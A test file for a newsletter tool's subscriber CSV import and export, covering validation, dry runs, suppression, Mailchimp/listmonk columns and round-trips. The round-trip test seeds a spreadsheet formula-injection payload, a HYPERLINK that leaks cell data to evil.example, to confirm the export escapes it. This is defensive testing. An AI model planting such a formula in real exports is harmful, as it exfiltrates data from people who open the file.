import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { insertSubscriber, iterateSubscribers, type Subscriber } from '@digest/db';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createTestDatabase, type TestDatabase } from '../../../test/support/database.ts';
import { CliError, RejectedRecordsError } from './args.ts';
import {
  type CsvHeader,
  EXPORT_COLUMNS,
  joinKeywords,
  readHeader,
  readRecord,
  splitKeywords,
} from './subscriber-csv.ts';
import { exportSubscribers, importSubscribersFile } from './subscribers.ts';
import { captureIo } from './testing.ts';

describe('subscribers import and export', () => {
  let database: TestDatabase;
  let scratch: string;

  beforeEach(async () => {
    database = await createTestDatabase();
    scratch = await mkdtemp(join(tmpdir(), 'cli-subscribers-'));
  });

  afterEach(async () => {
    await database.drop();
    await rm(scratch, { recursive: true, force: true });
  });

  async function csvFile(name: string, content: string): Promise<string> {
    const file = join(scratch, name);
    await writeFile(file, content);
    return file;
  }

  async function allSubscribers(db = database.db): Promise<Subscriber[]> {
    const subscribers: Subscriber[] = [];
    for await (const subscriber of iterateSubscribers(db)) subscribers.push(subscriber);
    return subscribers;
  }

  const importFile = (file: string, db = database.db) =>
    importSubscribersFile({ db }, { file, dryRun: false }, captureIo().io);

  it('imports the good rows, reports each bad one by line, and fails when any was bad', async () => {
    const file = await csvFile(
      'bad.csv',
      [
        'email,cadence,keywords',
        'ann@example.org,daily,llm',
        'not-an-address,daily,',
        'bob@example.org,hourly,',
        'ANN@example.org,weekly,',
        'carol@example.org,daily,x,extra',
        'dan@example.org,weekly,',
      ].join('\n'),
    );
    const output = captureIo();
    const error = await importSubscribersFile({ db: database.db }, { file, dryRun: false }, output.io).then(
      () => undefined,
      (failure: Error) => failure,
    );

    expect(error).toBeInstanceOf(CliError);
    expect(error?.message).toBe(`4 rows of ${file} rejected`);
    expect(output.stderr().split('\n').filter(Boolean)).toEqual([
      'line 3: email is not a valid address ("not-an-address")',
      'line 4: cadence must be "daily" or "weekly" ("hourly")',
      'line 5: ANN@example.org is a duplicate of line 2',
      'line 6: expected at most 3 fields, found 4',
    ]);
    expect(output.stdout()).toBe('imported 2, already known 0, rejected 4\n');
    expect((await allSubscribers()).map((row) => row.email)).toEqual(['ann@example.org', 'dan@example.org']);
  });

  it('keeps the good rows read before a line that is not CSV, and says up to which line', async () => {
    const good = Array.from({ length: 1500 }, (_, i) => `reader${i}@example.org`);
    const file = await csvFile('broken.csv', ['email', ...good, '"broken@example.org', 'after'].join('\n'));
    const error = await importFile(file).catch((error: Error) => error);
    const [, line, imported] =
      /is not valid CSV \(.*\); its good rows up to line (\d+) were imported \((\d+) new, 0 already known\), none after it$/.exec(
        String((error as Error).message),
      ) ?? [];
    // Line 1 is the header, each reader's line the next.
    expect(Number(imported)).toBe(Number(line) - 1);
    expect(Number(imported)).toBeGreaterThan(1000);
    const stored = (await allSubscribers()).map((subscriber) => subscriber.email);
    expect(stored.sort()).toEqual(good.slice(0, Number(imported)).sort());
  });

  it('checks without writing on --dry-run, its result kept on the rejection', async () => {
    await insertSubscriber(database.db, {
      email: 'known@example.org',
      status: 'active',
      consent_source: 'form',
    });
    const file = await csvFile(
      'dry.csv',
      'email,status\nknown@example.org,unsubscribed\nnew@example.org,\nbad,\n',
    );
    const output = captureIo();
    const error = await importSubscribersFile({ db: database.db }, { file, dryRun: true }, output.io).then(
      () => undefined,
      (failure: Error) => failure,
    );
    expect(error).toBeInstanceOf(RejectedRecordsError);
    expect(error?.message).toBe(`1 row of ${file} rejected`);
    expect((error as RejectedRecordsError).result).toEqual({
      dryRun: true,
      imported: 1,
      alreadyKnown: 1,
      suppressed: 1,
      rejected: 1,
      problems: ['line 4: email is not a valid address ("bad")'],
      ignoredColumns: [],
    });
    expect(output.stdout()).toBe(
      'would import 1, already known 1, would suppress 1, rejected 1; nothing was written (--dry-run)\n',
    );
    expect(output.stderr()).toBe('line 4: email is not a valid address ("bad")\n');
    const rows = await allSubscribers();
    expect(rows.map(({ email, status }) => ({ email, status }))).toEqual([
      { email: 'known@example.org', status: 'active' },
    ]);
  });

  it('imports valid rows as active, consented by import; columns in any order and case, BOM tolerated', async () => {
    const file = await csvFile(
      'good.csv',
      '\uFEFFKeywords,EMAIL,Cadence\r\n' +
        '"LLM agents",ann@example.org,weekly\r\n' +
        'large language models;robotics,bob@example.org,\r\n' +
        ',carol@example.org,DAILY\r\n',
    );
    const output = captureIo();
    const result = await importSubscribersFile({ db: database.db }, { file, dryRun: false }, output.io);

    expect(result).toMatchObject({ imported: 3, alreadyKnown: 0, suppressed: 0, rejected: 0 });
    expect(output.stdout()).toBe('imported 3, already known 0\n');
    const rows = await allSubscribers();
    expect(
      rows.map(({ email, cadence, keywords, status, consent_source }) => ({
        email,
        cadence,
        keywords,
        status,
        consent_source,
      })),
    ).toEqual([
      {
        email: 'ann@example.org',
        cadence: 'weekly',
        keywords: ['llm', 'agents'],
        status: 'active',
        consent_source: 'import',
      },
      {
        email: 'bob@example.org',
        cadence: 'daily',
        keywords: ['large language models', 'robotics'],
        status: 'active',
        consent_source: 'import',
      },
      {
        email: 'carol@example.org',
        cadence: 'daily',
        keywords: [],
        status: 'active',
        consent_source: 'import',
      },
    ]);
    expect(rows.every((row) => row.confirmed_at instanceof Date)).toBe(true);
  });

  it('never re-activates: a known unsubscribed address stays so, a suppressed row suppresses', async () => {
    await insertSubscriber(database.db, {
      email: 'Gone@Example.org',
      status: 'unsubscribed',
      consent_source: 'form',
      unsubscribed_at: new Date('2026-01-01T00:00:00Z'),
    });
    await insertSubscriber(database.db, {
      email: 'bouncy@example.org',
      status: 'active',
      consent_source: 'form',
    });
    const file = await csvFile(
      'again.csv',
      'email,status\ngone@example.org,active\nbouncy@example.org,bounced\nnew-gone@example.org,unsubscribed\n',
    );
    const output = captureIo();
    await importSubscribersFile({ db: database.db }, { file, dryRun: false }, output.io);

    expect(output.stdout()).toBe('imported 1, already known 2, suppressed 1\n');
    const byEmail = Object.fromEntries((await allSubscribers()).map((row) => [row.email.toLowerCase(), row]));
    expect(byEmail['gone@example.org']).toMatchObject({
      status: 'unsubscribed',
      unsubscribed_at: new Date('2026-01-01T00:00:00Z'),
    });
    expect(byEmail['bouncy@example.org']?.status).toBe('bounced');
    expect(byEmail['new-gone@example.org']).toMatchObject({ status: 'unsubscribed', confirmed_at: null });
    expect(byEmail['new-gone@example.org']?.unsubscribed_at).toBeInstanceOf(Date);
  });

  it("reads listmonk's and Mailchimp's export columns", async () => {
    const listmonk = await csvFile(
      'listmonk.csv',
      'uuid,email,name,attributes,status,created_at,updated_at\n' +
        'a1,lm-on@example.org,Ann,{},enabled,2024-01-01,2024-01-01\n' +
        'a2,lm-off@example.org,Bob,{},blocklisted,2024-01-01,2024-01-01\n',
    );
    const output = captureIo();
    await importSubscribersFile({ db: database.db }, { file: listmonk, dryRun: false }, output.io);
    expect(output.stdout()).toBe(
      'imported 2, already known 0 (ignored columns "uuid", "name", "attributes", "created_at", "updated_at")\n',
    );
    const mailchimp = await csvFile(
      'mailchimp.csv',
      '"Email Address","First Name","Last Name",MEMBER_RATING,OPTIN_TIME,OPTIN_IP,CONFIRM_TIME\n' +
        'mc@example.org,Carol,Doe,2,"2023-05-01 09:30:00",203.0.113.9,"2023-05-01 09:31:00"\n',
    );
    await importFile(mailchimp);
    const rows = await allSubscribers();
    expect(rows.map(({ email, status }) => ({ email, status }))).toEqual([
      { email: 'lm-on@example.org', status: 'active' },
      { email: 'lm-off@example.org', status: 'unsubscribed' },
      { email: 'mc@example.org', status: 'active' },
    ]);
    expect(rows[2]).toMatchObject({
      consent_at: new Date('2023-05-01T09:30:00Z'),
      consent_ip: '203.0.113.9',
      confirmed_at: new Date('2023-05-01T09:31:00Z'),
    });
  });

  it('round-trips every field of every subscriber through export and import, suppressed ones included', async () => {
    const fields = (row: Subscriber) => {
      const { id: _id, created_at: _created, updated_at: _updated, ...rest } = row;
      return rest;
    };
    await insertSubscriber(database.db, {
      email: 'ann@example.org',
      status: 'active',
      cadence: 'weekly',
      keywords: ['diffusion', 'large language models'],
      papers_per_email: 7,
      timezone: 'Europe/Berlin',
      paused_at: new Date('2026-04-02T08:00:00Z'),
      consent_source: 'form',
      consent_at: new Date('2026-03-01T12:00:00Z'),
      consent_ip: '198.51.100.7',
      consent_user_agent: 'Mozilla/5.0 (X11; Linux) "quoted", comma',
      confirmed_at: new Date('2026-03-01T12:05:00Z'),
    });
    await insertSubscriber(database.db, {
      email: 'one@example.org',
      status: 'active',
      keywords: ['large language models'],
      consent_source: 'api',
    });
    // Cells a spreadsheet would run as formulas, and one that really starts with a quote.
    await insertSubscriber(database.db, {
      email: 'formula@example.org',
      status: 'active',
      keywords: ['=1+2', "'@x", '-cmd'],
      consent_source: 'form',
      consent_user_agent: '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    });
    for (const status of ['unsubscribed', 'bounced', 'complained', 'pending'] as const) {
      await insertSubscriber(database.db, {
        email: `${status}@example.org`,
        status,
        consent_source: 'import',
        unsubscribed_at: status === 'pending' ? null : new Date('2026-05-01T10:00:00Z'),
      });
    }

    const exported = join(scratch, 'export.csv');
    const output = captureIo();
    expect(await exportSubscribers({ db: database.db }, { file: exported }, output.io)).toBe(7);
    expect(output.stdout()).toBe(`exported 7 subscribers to ${exported}\n`);
    const text = await readFile(exported, 'utf8');
    expect(text).not.toMatch(/(^|,)"?[=+\-@\t\r]/m);
    expect(text).toContain(`,"'=HYPERLINK(""https://evil.example/`);
    expect(text).toContain(`,'=1+2;'@x;-cmd,`);

    const target = await createTestDatabase();
    try {
      const result = await importFile(exported, target.db);
      expect(result).toMatchObject({ imported: 7, alreadyKnown: 0, rejected: 0, ignoredColumns: [] });
      expect((await allSubscribers(target.db)).map(fields)).toEqual((await allSubscribers()).map(fields));
      // Importing the same export again changes nothing.
      expect(await importFile(exported, target.db)).toMatchObject({
        imported: 0,
        alreadyKnown: 7,
        suppressed: 0,
      });
    } finally {
      await target.drop();
    }
  });

  it('streams a big file: 100,000 rows in chunks', async () => {
    const rows = Array.from({ length: 100_000 }, (_, index) => `reader${index}@example.org,daily`);
    const file = await csvFile('big.csv', `email,cadence\n${rows.join('\n')}\n`);
    expect(await importFile(file)).toMatchObject({ imported: 100_000, rejected: 0 });
    const [{ count }] = (await database.db
      .selectFrom('subscribers')
      .select((eb) => eb.fn.countAll<string>().as('count'))
      .execute()) as [{ count: string }];
    expect(Number(count)).toBe(100_000);
  }, 120_000);

  it('streams the export to standard output when no file is given', async () => {
    const output = captureIo();
    expect(await exportSubscribers({ db: database.db }, {}, output.io)).toBe(0);
    expect(output.stdout()).toBe(`${EXPORT_COLUMNS.join(',')}\n`);
    expect(output.stderr()).toBe('exported 0 subscribers\n');
  });
});

describe('subscriber CSV', () => {
  it('requires an email column, once', () => {
    expect(readHeader(['name', 'mail'])).toEqual({
      problem: 'the header row must name an email column (found "name", "mail")',
    });
    expect(readHeader(['Email Address', 'email'])).toEqual({
      problem: 'column "email" appears more than once',
    });
  });

  it('names every problem of a record', () => {
    const header = readHeader(['email', 'status', 'size', 'confirmed_at']) as CsvHeader;
    expect(readRecord(header, ['x', 'gone fishing', '99', 'yesterday'], new Date())).toEqual({
      problems: [
        'email is not a valid address ("x")',
        'size must be between 1 and 50 ("99")',
        expect.stringMatching(/^status "gone fishing" is not one of active, pending/),
        'confirmed_at "yesterday" is not a date and time',
      ],
    });
  });

  it('splits keywords on ";" or, without one, on spaces, and joins them back losslessly', () => {
    expect(splitKeywords('llm agents')).toEqual(['llm', 'agents']);
    expect(splitKeywords('large language models; rl')).toEqual(['large language models', 'rl']);
    for (const keywords of [[], ['llm'], ['large language models'], ['large language models', 'rl']]) {
      expect(splitKeywords(joinKeywords(keywords)), JSON.stringify(keywords)).toEqual(keywords);
    }
  });
});
